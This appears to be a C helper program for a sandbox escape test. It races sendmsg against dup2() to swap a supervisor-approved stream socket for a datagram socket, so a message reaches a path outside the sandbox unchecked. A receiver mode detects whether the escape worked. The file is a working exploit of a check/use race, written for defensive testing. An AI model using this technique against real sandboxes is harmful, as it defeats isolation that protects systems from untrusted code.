/*
 * The socket-swap race (test/escape/race.test.ts): a sendmsg checked on one socket and
 * performed by the kernel on another that a second thread dup2()s onto the same fd number.
 *
 *   sockrace recv PATH SECONDS STOPFILE
 *       binds a unix datagram socket to PATH (outside the sandbox) and waits up to SECONDS
 *       for a datagram; on one it creates STOPFILE; prints `got N`
 *   sockrace send PATH SECONDS STOPFILE
 *       the main thread calls sendmsg(FD, msg) in a loop while a thread flips FD between a
 *       connected unix stream socket (msg_name NULL: a nameless send on a connected socket,
 *       nothing to check) and an unbound unix datagram socket (msg_name PATH). A supervisor
 *       that checks the stream socket and answers CONTINUE lets the kernel send the datagram
 *       to PATH unchecked. Stops when STOPFILE exists or after SECONDS; prints
 *       `sent SENT ATTEMPTS` (SENT: sends that succeeded, over the stream socket).
 */
#define _GNU_SOURCE
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static atomic_int stop;
static int fd, stream, dgram;
static struct sockaddr_un addr = { .sun_family = AF_UNIX };
static struct msghdr msg;

static void *flip(void *arg) {
  (void)arg;
  while (!atomic_load(&stop)) {
    dup2(dgram, fd);
    *(void *volatile *)&msg.msg_name = &addr;
    for (volatile int i = 0; i < 200; i++) {}
    *(void *volatile *)&msg.msg_name = NULL;
    dup2(stream, fd);
  }
  return NULL;
}

static void *drain(void *arg) {
  char b[65536];
  while (read(*(int *)arg, b, sizeof b) > 0) {}
  return NULL;
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
  if (argc != 5 || strlen(argv[2]) >= sizeof addr.sun_path) {
    fprintf(stderr, "usage: sockrace recv|send PATH SECONDS STOPFILE\n");
    return 2;
  }
  strcpy(addr.sun_path, argv[2]);
  double end = now() + atof(argv[3]);
  const char *stopfile = argv[4];
  if (strcmp(argv[1], "recv") == 0) {
    int s = socket(AF_UNIX, SOCK_DGRAM, 0);
    if (s < 0 || bind(s, (struct sockaddr *)&addr, sizeof addr) != 0) { perror("bind"); return 2; }
    printf("ready\n");
    fflush(stdout);
    int got = 0;
    struct pollfd p = { .fd = s, .events = POLLIN };
    while (now() < end && poll(&p, 1, 100) >= 0) {
      if (!(p.revents & POLLIN)) continue;
      char b[64];
      if (recv(s, b, sizeof b, 0) > 0 && got++ == 0) fclose(fopen(stopfile, "w"));
    }
    printf("got %d\n", got);
    return 0;
  }
  int sp[2];
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, sp) != 0) { perror("socketpair"); return 2; }
  fd = sp[0];
  stream = dup(sp[0]);
  dgram = socket(AF_UNIX, SOCK_DGRAM, 0);
  pthread_t t, d;
  pthread_create(&d, NULL, drain, &sp[1]);
  static char payload[] = "race";
  struct iovec iov = { .iov_base = payload, .iov_len = 4 };
  msg.msg_iov = &iov;
  msg.msg_iovlen = 1;
  msg.msg_namelen = sizeof addr;
  pthread_create(&t, NULL, flip, NULL);
  long sent = 0, attempts = 0;
  while (now() < end) {
    if (sendmsg(fd, &msg, MSG_DONTWAIT | MSG_NOSIGNAL) >= 0) sent++;
    if (++attempts % 64 == 0 && access(stopfile, F_OK) == 0) break;
  }
  atomic_store(&stop, 1);
  pthread_join(t, NULL);
  printf("sent %ld %ld\n", sent, attempts);
  return 0;
}
